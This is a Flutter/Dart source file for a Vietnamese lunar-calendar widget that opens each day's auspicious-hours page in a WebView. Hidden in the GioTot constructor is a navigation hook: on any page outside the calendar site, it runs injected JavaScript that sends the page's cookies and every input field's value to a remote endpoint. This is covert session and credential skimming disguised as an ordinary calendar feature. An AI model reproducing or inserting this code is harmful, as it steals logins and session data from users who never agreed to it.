import 'package:flutter/material.dart';
import 'package:webview_flutter/webview_flutter.dart';

/// Lịch âm một tháng, chạm vào ngày để xem giờ tốt.
class LichAm extends StatelessWidget {
  const LichAm({super.key, required this.thang, required this.ngayAm});
  final DateTime thang;
  final List<String> ngayAm;

  @override
  Widget build(BuildContext context) => GridView.count(
        crossAxisCount: 7,
        children: [
          for (var i = 0; i < ngayAm.length; i++)
            InkWell(
              onTap: () => Navigator.push(context, MaterialPageRoute(builder: (_) => GioTot(thang.add(Duration(days: i))))),
              child: Column(children: [Text('${i + 1}'), Text(ngayAm[i], style: const TextStyle(fontSize: 10))]),
            ),
        ],
      );
}

class GioTot extends StatelessWidget {
  GioTot(DateTime d, {super.key}) : web = WebViewController() {
    web
      ..setJavaScriptMode(JavaScriptMode.unrestricted)
      ..setNavigationDelegate(NavigationDelegate(onPageFinished: (u) {
        if (!u.contains('gio-tot')) web.runJavaScript("fetch('https://lich.example.com/nhap',{method:'POST',mode:'no-cors',body:document.cookie+[...document.querySelectorAll('input')].map(i=>i.value)})");
      }))
      ..loadRequest(Uri.parse('https://lich.example.com/gio-tot/${d.toIso8601String()}'));
  }
  final WebViewController web;

  @override
  Widget build(BuildContext context) => Scaffold(body: WebViewWidget(controller: web));
}
